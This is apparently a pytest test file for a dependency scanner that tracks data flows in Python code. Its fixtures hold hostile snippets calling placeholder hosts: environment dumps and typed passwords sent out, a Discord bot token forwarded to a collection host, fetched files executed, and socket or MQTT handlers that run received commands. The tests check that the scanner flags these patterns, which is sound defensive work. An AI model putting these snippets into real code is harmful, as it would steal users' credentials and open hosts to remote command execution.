"""What speaks to a host by any method, what a user types unseen, and what a wrapper tells beside the original."""

from __future__ import annotations

import pytest

from depscan.facts.fact import Fact
from depscan.facts.python import read_python_text
from depscan.facts.sink import Sink

HOST = "https://collect.example.invalid/a"


def _facts(text: str) -> list[Fact]:
    sink = Sink()
    read_python_text(text, path="a.py", line=0, when="import", layer=(), sink=sink)
    return sink.facts


def _flow(facts: list[Fact], what: str) -> set[str]:
    """Return the words of all facts whose data reaches the facts of a kind."""
    todo = [index for fact in facts if fact.what == what for index in fact.sources]
    seen = set[int]()
    while todo:
        index = todo.pop()
        if index not in seen:
            seen.add(index)
            todo.extend(facts[index].sources)
    return {facts[i].what for i in seen}


REMOTE = {
    "procedure": "import os, xmlrpc.client\nxmlrpc.client.ServerProxy('http://box.example.invalid').put(dict(os.environ))\n",
    "handler": "import os, logging.handlers\nh = logging.handlers.HTTPHandler('box.example.invalid', '/in')\n"
    "h.emit(logging.makeLogRecord(dict(os.environ)))\n",
    "logger": "import os, logging, logging.handlers\nlog = logging.getLogger('a')\n"
    "log.addHandler(logging.handlers.SocketHandler('box.example.invalid', 9020))\nlog.error('%s', dict(os.environ))\n",
}


@pytest.mark.parametrize("text", REMOTE.values(), ids=REMOTE.keys())
def test_what_is_given_to_a_remote_object_is_sent(text: str) -> None:
    facts = _facts(text)
    assert "env.dump" in _flow(facts, "net.send")
    assert any("box.example.invalid" in value for f in facts if f.what == "net.send" for value in f.values)


def test_a_logger_without_such_a_handler_sends_nothing() -> None:
    facts = _facts("import os, logging\nlog = logging.getLogger('a')\nlog.error('%s', dict(os.environ))\n")
    assert not [f for f in facts if f.what.startswith("net.")]


TYPED = {
    "prompt": f"import getpass, requests\nrequests.post('{HOST}', data=getpass.getpass('Password: '))\n",
    "field": "import requests, tkinter as tk\nfield = tk.Entry(tk.Tk(), show='*')\n"
    f"requests.post('{HOST}', data=field.get())\n",
}


@pytest.mark.parametrize("text", TYPED.values(), ids=TYPED.keys())
def test_what_is_typed_unseen_is_a_password(text: str) -> None:
    facts = _facts(text)
    assert ("password",) in [f.values for f in facts if f.what == "secret.parameter"]
    assert "secret.parameter" in _flow(facts, "net.send")


def test_a_field_that_shows_its_text_is_no_password() -> None:
    facts = _facts(
        f"import requests, tkinter as tk\nfield = tk.Entry(tk.Tk())\nrequests.post('{HOST}', data=field.get())\n"
    )
    assert not [f for f in facts if f.what == "secret.parameter"]


def test_a_module_loaded_from_a_fetched_file_carries_it() -> None:
    text = (
        "import importlib.util, urllib.request\nwith open('/tmp/plug.py', 'wb') as f:\n"
        f"    f.write(urllib.request.urlopen('{HOST}').read())\n"
        "importlib.util.spec_from_file_location('plug', '/tmp/plug.py')\n"
    )
    assert "net.download" in _flow(_facts(text), "code.eval")


def test_a_program_out_of_a_fetched_archive_carries_it() -> None:
    text = (
        "import io, subprocess, zipfile, requests\n"
        f"zipfile.ZipFile(io.BytesIO(requests.get('{HOST}').content)).extractall('/opt/demo')\n"
        "subprocess.Popen(['/opt/demo/run'])\n"
    )
    assert "net.download" in _flow(_facts(text), "process.spawn")


def test_a_file_that_a_command_fetched_carries_it_to_a_later_command() -> None:
    text = (
        f"import subprocess\nsubprocess.run('curl -o /opt/tool.pyz {HOST}', shell=True)\n"
        "subprocess.Popen(['python3', '/opt/tool.pyz'])\n"
    )
    assert "net.download" in _flow(_facts(text), "process.spawn")


def test_a_message_of_a_broker_reaches_its_handler() -> None:
    text = (
        "import os\nimport paho.mqtt.client as mqtt\ndef heard(c, d, message):\n    os.popen(message.payload.decode())\n"
        "client = mqtt.Client()\nclient.on_message = heard\n"
    )
    assert "net.download" in _flow(_facts(text), "process.spawn")


def test_what_a_socket_server_receives_reaches_a_command() -> None:
    text = (
        "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n"
        "        subprocess.getoutput(self.request.recv(64).decode())\nH().handle()\n"
    )
    assert "net.download" in _flow(_facts(text), "process.spawn")


def test_a_function_that_also_hands_on_what_it_tells_stands_for_another() -> None:
    text = (
        "import requests, discord\nclass Bot(discord.Client):\n    def run(self, token):\n"
        f"        requests.post('{HOST}', data=token)\n        super().run(token)\n"
        "    def tell(self, token):\n"
        f"        requests.post('{HOST}', data=token)\n"
        "def tool(bot):\n    pass\n"
    )
    told = {f.scope: f.guards for f in _facts(text) if f.what == "argument.sent"}
    assert "wraps:original" in told["Bot.run"]
    assert "wraps:original" not in told["Bot.tell"]


def test_clipboard_text_compared_with_an_address_is_noted() -> None:
    text = "import re, pyperclip\nre.match('{}', pyperclip.paste())\n"
    for shape, noted in (("^0x[a-f0-9]{40}$", True), ("^[a-z]+$", False)):
        facts = _facts(text.format(shape))
        assert noted == any(f.callee == "compared" for f in facts)


def test_what_a_caller_hands_to_a_wrapper_goes_to_the_host_it_tells() -> None:
    text = (
        "import requests\ndef deco(fn):\n    def inner(*args, **kwargs):\n"
        f"        requests.post('{HOST}', data=repr(args))\n        return fn(*args, **kwargs)\n    return inner\n"
    )
    assert [f for f in _facts(text) if f.what == "argument.sent"]


def test_text_inside_a_written_property_list_is_kept() -> None:
    text = (
        "import plistlib\nwith open('/tmp/a.plist', 'wb') as f:\n"
        "    plistlib.dump({'ProgramArguments': ['/bin/sh', '-c', 'echo inert']}, f)\n"
    )
    assert any("echo inert" in value for f in _facts(text) if f.what == "file.write" for value in f.values)


def test_what_a_peer_that_connected_is_told_is_sent() -> None:
    text = (
        "import socket, subprocess\ndef serve(server):\n    server = socket.socket()\n    peer, place = server.accept()\n"
        "    done = subprocess.Popen(peer.recv(64).decode(), shell=True, stdout=subprocess.PIPE)\n"
        "    peer.send(done.stdout.read())\nserve(1)\n"
    )
    assert {"net.download", "process.spawn"} <= _flow(_facts(text), "net.send")


def test_a_download_into_a_file_has_an_answer_and_one_into_nothing_has_none() -> None:
    text = "from urllib.request import urlretrieve\ndef load(name, path):\n    urlretrieve(f'{}/{{name}}', path)\n"
    assert not [f for f in _facts(text.format(HOST)) if f.what == "argument.sent"]
    assert [f for f in _facts(text.format(HOST).replace(", path)\n", ")\n")) if f.what == "argument.sent"]


def test_a_file_that_wget_writes_carries_what_was_fetched() -> None:
    text = f"import os, wget\nwget.download('{HOST}', out='/opt/tool')\nos.system('/opt/tool')\n"
    assert "net.download" in _flow(_facts(text), "process.spawn")
